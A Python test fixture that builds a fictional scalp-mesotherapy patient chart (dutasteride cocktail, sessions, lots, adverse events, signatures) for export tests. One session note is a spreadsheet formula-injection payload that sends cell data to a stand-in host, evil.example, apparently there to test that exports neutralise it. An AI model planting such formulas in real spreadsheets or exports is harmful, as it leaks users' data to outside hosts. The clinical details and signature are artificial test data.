"""A realistic, hand-built patient chart for the export tests and the benchmark.

Real library ingredients at published stock strengths (dexpanthenol 250 mg/mL,
pyridoxine HCl 100 mg/mL, dutasteride 0.01 % w/v, lidocaine HCl 2 % w/v, biotin from
a labelled 5 mg/mL product), two formulation versions, sessions with lots, zones,
an adverse event, an addendum, an override and a draft, sessions prepared by an
assistant and signed by a practitioner, outcomes over time, and
names with µ, é and ü so that font embedding is proven by the PDF's text.
"""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

from formulary.records import (
    Addendum,
    AdverseEvent,
    Allergy,
    Checkpoint,
    Clinic,
    Component,
    Condition,
    Course,
    FormulationVersion,
    GradeScale,
    IngredientLine,
    IngredientStrength,
    LotUse,
    Outcome,
    Override,
    Patient,
    PatientChart,
    Practitioner,
    Product,
    Role,
    ScalpZone,
    Session,
    SessionStatus,
    Sex,
    Signature,
    Technique,
    ZoneVolume,
)
from formulary.units.amount import Amount


def amt(value: str, unit: str) -> Amount:
    return Amount(Decimal(value), unit)


ANA = Practitioner(1, "amartin", "Dr Ana Martín-Pérez", Role.PRACTITIONER)
LUKAS = Practitioner(2, "lbrunner", "Dr Lukas Brünner", Role.PRACTITIONER)
#: An assistant: she prepares the odd-numbered sessions, which Ana signs.
MAJA = Practitioner(3, "mlind", "Maja Lind, RN", Role.ASSISTANT)

PATIENT = Patient(
    id=7,
    chart_number="C-000123",
    family_name="Müller-Édouard",
    given_name="José",
    date_of_birth=date(1984, 5, 17),
    sex=Sex.MALE,
    diagnosis="Androgenetic alopecia",
    grade_scale=GradeScale.NORWOOD,
    grade="III vertex",
    weight_kg=amt("78.5", "kg"),
    allergies=(
        Allergy("Procaine", reaction="urticaria"),
        Allergy("Cyanocobalamin (cobalt)", ingredient_id=8, reaction="generalised rash"),
    ),
    conditions=(
        Condition("anticoagulant", "Takes apixaban 5 mg twice daily; bruising risk discussed"),
        Condition("keloid", "Keloid tendency (family history)"),
    ),
    consent_on_file=True,
    consent_date=date(2026, 1, 8),
)

PRODUCTS = (
    Product(1, "Dutasteride 0.01 % w/v (compounded)", "Farmacia Süd", amt("1", "mL"),
            (IngredientStrength(101, "Dutasteride", amt("0.01", "% w/v")),)),
    Product(2, "Dexpanthenol 250 mg/mL", "Bausch", amt("2", "mL"),
            (IngredientStrength(102, "Dexpanthenol", amt("250", "mg/mL")),)),
    Product(3, "Biotin 5 mg/mL", "Mesoestetic", amt("1", "mL"),
            (IngredientStrength(103, "Biotin", amt("5", "mg/mL")),)),
    Product(4, "Pyridoxine HCl 100 mg/mL", "Mylan", amt("1", "mL"),
            (IngredientStrength(104, "Pyridoxine hydrochloride", amt("100", "mg/mL"),
                                form="hydrochloride"),)),
    Product(5, "Lidocaine HCl 2 %", "B. Braun", amt("5", "mL"),
            (IngredientStrength(105, "Lidocaine hydrochloride", amt("2", "% w/v"),
                                form="hydrochloride"),)),
)

# (product id, component name, version-1 volume, version-2 volume, ingredient, form,
#  strength in mg/mL)
_RECIPE = (
    (1, "Dutasteride 0.01 % w/v", "1", "1", "Dutasteride", "", "0.1"),
    (2, "Dexpanthenol 250 mg/mL", "0.4", "0.4", "Dexpanthenol", "D-form", "250"),
    (3, "Biotin 5 mg/mL", "0.2", "0.3", "Biotin", "", "5"),
    (4, "Pyridoxine HCl 100 mg/mL", "0.2", "0.2", "Pyridoxine hydrochloride",
     "hydrochloride", "100"),
    (5, "Lidocaine HCl 2 %", "0.2", "0.1", "Lidocaine hydrochloride", "hydrochloride", "20"),
)
FINAL_VOLUME = Decimal("2")


def _version(version: int, vid: int, created: datetime) -> FormulationVersion:
    column = 2 if version == 1 else 3
    components = []
    lines = []
    for position, row in enumerate(_RECIPE, start=1):
        product_id, name, _, _, ingredient, form, strength = row
        volume = Decimal(row[column])
        components.append(
            Component(vid * 10 + position, position, name, Amount(volume, "mL"),
                      product_id=product_id)
        )
        per_session = volume * Decimal(strength)
        lines.append(
            IngredientLine(100 + product_id, ingredient, form, Amount(per_session, "mg"),
                           Amount(per_session / FINAL_VOLUME, "mg/mL"))
        )
    return FormulationVersion(
        id=vid,
        formulation_id=3,
        formulation_name="Dutasteride scalp cocktail",
        version=version,
        final_volume=Amount(FINAL_VOLUME, "mL"),
        components=tuple(components),
        created_at=created,
        created_by="amartin",
        locked=True,
        ingredient_lines=tuple(lines),
        note="Biotin raised, lidocaine halved after session 2" if version == 2 else "",
    )


START = datetime(2026, 1, 12, 9, 30, tzinfo=UTC)
V1 = _version(1, 31, START - timedelta(days=4))
V2 = _version(2, 32, START + timedelta(days=20))
COURSE = Course(5, 7, "Dutasteride induction", 6, 14, START.date())

LOT_NUMBERS = {1: "DUT-2511-α", 2: "DX4471", 3: "BIO-88ü", 4: "PYR0925", 5: "LID-23C"}
LOT_EXPIRY = {1: date(2026, 5, 31), 2: date(2027, 3, 31), 3: date(2026, 11, 30),
              4: date(2027, 9, 30), 5: date(2028, 1, 31)}

ZONES = (
    ZoneVolume(ScalpZone.FRONTAL, amt("0.4", "mL")),
    ZoneVolume(ScalpZone.LEFT_TEMPORAL, amt("0.15", "mL")),
    ZoneVolume(ScalpZone.RIGHT_TEMPORAL, amt("0.15", "mL")),
    ZoneVolume(ScalpZone.MID_SCALP, amt("0.5", "mL")),
    ZoneVolume(ScalpZone.VERTEX, amt("0.8", "mL")),
)

#: Text a spreadsheet would run as a formula if it were not neutralised.
INJECTION_NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _signature(person: Practitioner, at: datetime, seed: int) -> Signature:
    return Signature(person, at, "author", f"{seed:064x}")


def _session(n: int) -> Session:
    performed = START + timedelta(days=14 * (n - 1), minutes=7 * n)
    version = V1 if n <= 2 else V2
    lots = tuple(
        LotUse(c.id, c.name, 500 + c.product_id if c.product_id else 0,
               LOT_NUMBERS[c.product_id or 0], LOT_EXPIRY[c.product_id or 0], c.amount)
        for c in version.components
    )
    adverse: tuple[AdverseEvent, ...] = ()
    addenda: tuple[Addendum, ...] = ()
    overrides: tuple[Override, ...] = ()
    notes = "Tolerated well."
    if n == 2:
        adverse = (AdverseEvent("bruising", "mild", "Small haematoma at vertex"),)
        addenda = (
            Addendum(
                90 + n,
                "Bruise at vertex resolved by day 3 (patient phoned).",
                "late entry",
                _signature(LUKAS, performed + timedelta(days=3), 9000 + n),
            ),
        )
        notes = INJECTION_NOTE
    if n == 3:
        overrides = (
            Override(
                "interval.too_short",
                "12 days since the previous session; course interval is 14 days",
                "warning",
                "Patient travelling; agreed with prescriber",
                "amartin",
                performed - timedelta(minutes=5),
            ),
        )
        notes = "-10 % redness vs baseline; @vertex fine"
    draft = n >= 4 and n % 4 == 0
    return Session(
        id=1000 + n,
        patient_id=PATIENT.id,
        performed_at=performed,
        status=SessionStatus.DRAFT if draft else SessionStatus.SIGNED,
        formulation_version_id=version.id,
        course_id=COURSE.id,
        session_number=n,
        technique=Technique.NAPPAGE if n % 2 else Technique.POINT_BY_POINT,
        needle_gauge=30 if n % 2 else 32,
        needle_length=amt("4", "mm"),
        depth=amt("1.5", "mm"),
        total_volume=amt("2", "mL"),
        zones=ZONES,
        lots=lots,
        anaesthesia="Topical lidocaine 4 % cream, 30 min" if n % 2 else "none",
        pain_score=2 + n % 3,
        adverse_events=adverse,
        post_care="No washing for 24 h; avoid sun and sauna for 48 h",
        notes=notes,
        prepared_by=MAJA if n % 2 else ANA,
        signature=None if draft else _signature(ANA, performed + timedelta(minutes=25), n),
        addenda=addenda,
        overrides=overrides,
    )


def _outcomes(count: int) -> tuple[Outcome, ...]:
    result = []
    for i in range(count):
        at = START - timedelta(days=1) + timedelta(days=28 * i)
        result.append(
            Outcome(
                id=700 + i,
                patient_id=PATIENT.id,
                measured_at=at,
                density=Amount(Decimal(128 + 7 * i), "hairs/cm2"),
                shaft_diameter=Amount(Decimal("52.5") + Decimal(2 * i), "micrometre"),
                scale_grade="III vertex" if i < 2 else "III",
                zone=ScalpZone.VERTEX,
                photo_refs=(f"photos/C-000123/{at:%Y%m%d}-vertex.jpg",),
                notes="TrichoScan, same clipped field" if i else "Baseline, µ-scope 20×",
            )
        )
    return tuple(result)


EXPORTED_AT = datetime(2026, 6, 1, 14, 5, 9, tzinfo=UTC)
# Shaped like a 64-byte Ed25519 signature (base64); not a real one.
_SIG = "lOlQ7aSocOZWXUThS5DxbAo4HNaTBFKcgfa9QIrxPFFVFrhBfgBfwxCT+qSxPekkNkVt0lKJqyhnw6V2+pSESQ=="
CHECKPOINT = Checkpoint(
    db_id="9f2c6e1a",
    seq=412,
    head_hash="5d41402abc4b2a76b9719d911017c592" * 2,
    at=EXPORTED_AT,
    key_id="4a1f0c9e77d2b615",
    signature=_SIG,
    line=(
        "FORMULARY-CHECKPOINT v1 db=9f2c6e1a seq=412 "
        "head=5d41402abc4b2a76b9719d911017c5925d41402abc4b2a76b9719d911017c592 "
        f"at=2026-06-01T14:05:09.000000Z key=4a1f0c9e77d2b615 sig={_SIG}"
    ),
)

CLINIC = Clinic("Clínica Capilar Zürich-Süd", "Bahnhofstrasse 12, 8001 Zürich", "room-2")


def build_chart(sessions: int = 5, outcomes: int = 4) -> PatientChart:
    """The fixture chart with ``sessions`` sessions and ``outcomes`` measurements."""
    return PatientChart(
        clinic=CLINIC,
        patient=PATIENT,
        formulation_versions=(V1, V2),
        courses=(COURSE,),
        sessions=tuple(_session(n) for n in range(1, sessions + 1)),
        outcomes=_outcomes(outcomes),
        practitioners=(ANA, LUKAS, MAJA),
        products=PRODUCTS,
        exported_at=EXPORTED_AT,
        checkpoint=CHECKPOINT,
    )
